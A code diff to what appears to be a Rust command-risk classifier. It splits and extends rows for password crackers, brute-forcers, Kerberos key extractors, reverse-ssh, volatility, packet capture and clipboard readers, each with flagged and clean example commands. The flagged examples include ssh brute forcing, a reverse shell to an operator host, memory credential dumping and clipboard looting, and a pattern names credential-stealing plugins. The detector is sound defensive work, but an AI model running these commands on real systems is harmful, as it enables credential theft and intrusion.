@@ -23,6 +23,13 @@ use crate::Level::{Critical, High, Medium};
 use crate::{Program, Sub};
 
 /// The table. Keep rows sorted by canonical name.
+/// What a packet capture does, completing "this call ...".
+const CAPTURE: &str = "captures network traffic, which can hold credentials and tokens";
+
+/// Volatility's plugins that pull credentials out of a memory image
+/// (version 2 names and version 3 `os.plugin` names).
+const VOL_SECRETS: &str = "*hashdump*|*lsadump*|*cachedump*|*dumpcerts*|*keychaindump*|*mimikatz*|*lsa_secrets*|*truecryptpassphrase*|*truecryptmaster*|*bitlocker*|*passphrase*";
+
 pub const SECURITY: &[Program] = &[
     Program {
         names: &["airbase-ng", "hostapd-wpe", "hostapd-mana", "eaphammer", "wifiphisher", "fluxion", "airgeddon", "berate_ap"],
@@ -305,17 +312,26 @@ pub const SECURITY: &[Program] = &[
         ..P
     },
     Program {
-        names: &["hashcat", "john", "hydra", "medusa", "ncrack"],
-        source: "https://hashcat.net/wiki/, https://www.openwall.com/john/doc/, https://github.com/vanhauser-thc/thc-hydra (password cracking and guessing)",
-        subs: &[always(
-            Credential,
-            High,
-            "cracks or guesses passwords",
-        )],
+        names: &["hashcat", "john"],
+        source: "https://hashcat.net/wiki/, https://www.openwall.com/john/doc/ (password cracking; --example-hashes, --hash-info, -I, -b, --help, --version, john's --list and --test report and crack nothing: htlin, session 34)",
+        subs: &[Sub {
+            words: &["!--example-hashes|--hash-info|-I|--backend-info|-b|--benchmark|-h|--help|-V|--version|--list*|--test*"],
+            harm: Credential,
+            level: High,
+            reason: "cracks or guesses passwords",
+        }],
+        flagged: &["hashcat -m 0 hashes.txt rockyou.txt", "john --wordlist=rockyou.txt shadow.txt"],
+        clean: &["hashcat --example-hashes", "hashcat --hash-info -m 1000", "john --list=formats", "hashcat -b"],
+        ..P
+    },
+    Program {
+        names: &["hydra", "medusa", "ncrack", "legba", "patator", "crowbar"],
+        source: "https://github.com/vanhauser-thc/thc-hydra, http://foofus.net/goons/jmk/medusa/medusa.html, https://nmap.org/ncrack/, https://github.com/evilsocket/legba, https://github.com/lanjelot/patator (password guessing against services)",
+        subs: &[always(Credential, High, "cracks or guesses passwords")],
         flagged: &[
-            "hashcat -m 0 hashes.txt rockyou.txt",
-            "john --wordlist=rockyou.txt shadow.txt",
             "hydra -l root -P rockyou.txt ssh://10.0.0.5",
+            "legba ssh --username admin --password wordlists/passwords.txt --target localhost:22",
+            "patator ftp_login host=10.0.0.5 user=FILE0 0=users.txt",
         ],
         ..P
     },
@@ -467,14 +483,49 @@ pub const SECURITY: &[Program] = &[
         ..P
     },
     Program {
-        names: &["vol.py", "volatility", "volatility3", "vol3", "volafox"],
-        source: "https://github.com/volatilityfoundation/volatility3 (plugins such as hashdump, lsadump, mac.keychaindump read credentials out of memory images); ATT&CK T1003; HackTricks macOS sensitive locations (keychain keys from a memory dump)",
-        subs: &[always(
-            Credential,
-            Medium,
-            "runs a memory-forensics tool (keys, hashes and passwords out of memory images)",
-        )],
-        flagged: &["python vol.py -i ~/Desktop/show/macosxml.mem -o keychaindump", "vol3 -f mem.raw windows.hashdump"],
+        names: &["sssdkcmextractor", "keytabextract", "keytabparser"],
+        source: "https://github.com/fireeye/SSSDKCMExtractor (decrypts the Kerberos tickets SSSD keeps in /var/lib/sss/secrets), https://github.com/sosdave/KeyTabExtract, https://github.com/its-a-feature/KeytabParser (hashes out of keytabs); HackTricks Linux Active Directory (htlin, session 34)",
+        subs: &[always(Credential, High, "extracts Kerberos tickets or keys")],
+        flagged: &["python3 SSSDKCMExtractor.py --database secrets.ldb --key secrets.mkey", "python3 keytabextract.py /etc/krb5.keytab"],
+        ..P
+    },
+    Program {
+        names: &["reverse-ssh", "reverse-sshx86", "reverse-sshx64", "upx_reverse-sshx86"],
+        source: "https://github.com/Fahrj/reverse-ssh (a statically linked ssh server that connects back to the operator: a reverse shell); HackTricks full TTYs (htlin, session 34)",
+        subs: &[Sub { words: &["!-h|--help|-V"], harm: crate::Harm::Exfiltration, level: Critical, reason: "runs a reverse shell (an ssh server that connects out to an operator)" }],
+        flagged: &["reverse-ssh.exe -p 4444 kali@10.0.0.2", "./reverse-ssh -v -l -p 4444"],
+        clean: &["reverse-ssh --help"],
+        ..P
+    },
+    Program {
+        names: &["vol.py", "volatility", "volatility3", "vol3", "vol", "volafox"],
+        source: "https://github.com/volatilityfoundation/volatility3 (plugins such as hashdump, lsadump, mac.keychaindump read credentials out of memory images; most plugins list processes, sockets, handles and files); https://github.com/volatilityfoundation/volatility/wiki/Command-Reference (cachedump, lsadump, hashdump, dumpcerts, truecryptpassphrase); ATT&CK T1003; HackTricks macOS sensitive locations (keychain keys from a memory dump); HackTricks volatility cheatsheet (htlin, session 34: the analysis plugins were asked, 45 rows)",
+        // A memory image is an artifact: listing its processes, sockets or
+        // registry keys is analysis. The plugins that pull credentials out
+        // of it, and this machine's live memory as the image, are asked.
+        value_opts: &["-f", "--filename", "-i", "--profile", "-p", "--pid", "-D", "--dump-dir", "-o", "--output-dir", "-l", "--location", "--plugins", "-r", "--renderer"],
+        subs: &[
+            Sub { words: &[VOL_SECRETS], harm: Credential, level: Medium, reason: "pulls keys, hashes or passwords out of a memory image" },
+            Sub { words: &["-o *keychaindump*|*hashdump*"], harm: Credential, level: Medium, reason: "pulls keys, hashes or passwords out of a memory image" },
+            Sub { words: &["-f /dev/mem|/dev/fmem|/dev/crash|/proc/kcore"], harm: Credential, level: Medium, reason: "reads this machine's live memory (its keys, hashes and passwords)" },
+            Sub { words: &["-l /dev/mem|/dev/fmem|/dev/crash|/proc/kcore|*file:///dev/mem*"], harm: Credential, level: Medium, reason: "reads this machine's live memory (its keys, hashes and passwords)" },
+        ],
+        flagged: &[
+            "python vol.py -i ~/Desktop/show/macosxml.mem -o keychaindump",
+            "vol3 -f mem.raw windows.hashdump",
+            "volatility --profile=Win7SP1x86 cachedump -f file.dmp",
+            "volatility --profile=Win7SP1x86 -f file.dmp lsadump",
+            "volatility --profile=Win7SP1x86 dumpcerts --dump-dir=. -f file.dmp",
+            "vol -f /dev/mem linux.bash",
+            "python3 vol.py -f mem.raw windows.registry.hashdump",
+        ],
+        clean: &[
+            "volatility imageinfo -f file.dmp",
+            "python3 vol.py -f file.dmp windows.pstree.PsTree",
+            "volatility --profile=Win7SP1x86 -f file.dmp netscan",
+            "volatility -f file.dmp --profile=Win7SP1x86 memdump -p 2168 -D conhost/",
+            "python3 vol.py -h",
+        ],
         ..P
     },
     Program {
@@ -526,13 +577,15 @@ pub const SECURITY: &[Program] = &[
     },
     Program {
         names: &["nmap", "masscan", "zmap", "rustscan"],
-        source: "https://nmap.org/book/man.html, https://github.com/robertdavidgraham/masscan (network scanners)",
-        subs: &[always(
-            Exfiltration,
-            Medium,
-            "scans the network",
-        )],
+        source: "https://nmap.org/book/man.html, https://github.com/robertdavidgraham/masscan (network scanners; --script-help, --iflist, -h and -V report and scan nothing: htlin, session 34)",
+        subs: &[Sub {
+            words: &["!--script-help|--iflist|-h|--help|-V|--version|--script-updatedb"],
+            harm: Exfiltration,
+            level: Medium,
+            reason: "scans the network",
+        }],
         flagged: &["nmap -sV 10.0.0.0/24", "masscan -p1-65535 10.0.0.0/8 --rate 100000"],
+        clean: &["nmap --script-help \"(default or version) and smb)\"", "nmap --iflist"],
         ..P
     },
     Program {
@@ -813,14 +866,26 @@ pub const SECURITY: &[Program] = &[
         ..P
     },
     Program {
-        names: &["tcpdump", "tshark", "dumpcap", "tcpflow", "ngrep", "ettercap", "bettercap", "termshark"],
-        source: "man:tcpdump(8), man:tshark(1), man:ngrep(8) (packet capture; ATT&CK T1040 network sniffing)",
-        subs: &[always(
-            Credential,
-            Medium,
-            "captures network traffic, which can hold credentials and tokens",
-        )],
-        flagged: &["tcpdump -i any -w cap.pcap", "tshark -c 5 -i eth0", "ngrep -q -d any password"],
+        names: &["tcpdump", "tshark", "tcpflow", "termshark"],
+        source: "man:tcpdump(8), man:tshark(1), tcpflow(1) (packet capture; ATT&CK T1040 network sniffing; -r FILE reads a saved capture instead: htlin, session 34)",
+        subs: &[Sub { words: &["!-r+"], harm: Credential, level: Medium, reason: CAPTURE }],
+        flagged: &["tcpdump -i any -w cap.pcap", "tshark -c 5 -i eth0", "timeout 1 tcpdump", "tcpflow -i eth0 port 80"],
+        clean: &["tcpdump -r /tmp/attack.pcapng -w /tmp/att.pcap", "tshark -r ./usb.pcap -Y usb.capdata -T fields", "tcpdump -nr cap.pcap"],
+        ..P
+    },
+    Program {
+        names: &["ngrep"],
+        source: "man:ngrep(8) (captures and greps network traffic; -I FILE reads a saved capture instead: htlin, session 34)",
+        subs: &[Sub { words: &["!-I"], harm: Credential, level: Medium, reason: CAPTURE }],
+        flagged: &["ngrep -q -d any password"],
+        clean: &["ngrep -I packets.pcap '^GET' 'port 80'"],
+        ..P
+    },
+    Program {
+        names: &["dumpcap", "ettercap", "bettercap"],
+        source: "man:dumpcap(1), man:ettercap(8), https://www.bettercap.org/ (capture and interception; ATT&CK T1040, T1557)",
+        subs: &[always(Credential, Medium, CAPTURE)],
+        flagged: &["dumpcap -i eth0 -w cap.pcapng", "bettercap -iface eth0", "ettercap -T -i eth0"],
         ..P
     },
     Program {
@@ -1230,6 +1295,17 @@ pub const SECURITY: &[Program] = &[
             "reads the clipboard (often holds a copied password or token)",
         )],
         flagged: &["pbpaste > /tmp/c.txt", "while true; do wl-paste >> loot.txt; sleep 10; done"],
+        ..P
+    },
+    Program {
+        names: &["xsel"],
+        source: "man:xsel(1) (-o/--output, alone or clustered as -ob, -op, -os, prints a selection; with no option and no input it prints too); ATT&CK T1115; HackTricks Linux privilege escalation (`xsel -ob`: htlin, session 34)",
+        subs: &[
+            Sub { words: &["-o+"], harm: Credential, level: Medium, reason: "reads the clipboard (often holds a copied password or token)" },
+            Sub { words: &["--output"], harm: Credential, level: Medium, reason: "reads the clipboard (often holds a copied password or token)" },
+        ],
+        flagged: &["echo \"Clipboard: \"`xsel -ob 2>/dev/null`", "xsel --clipboard --output > c.txt"],
+        clean: &["echo hi | xsel -ib", "xsel --clipboard --input < notes.txt"],
         ..P
     },
     Program {
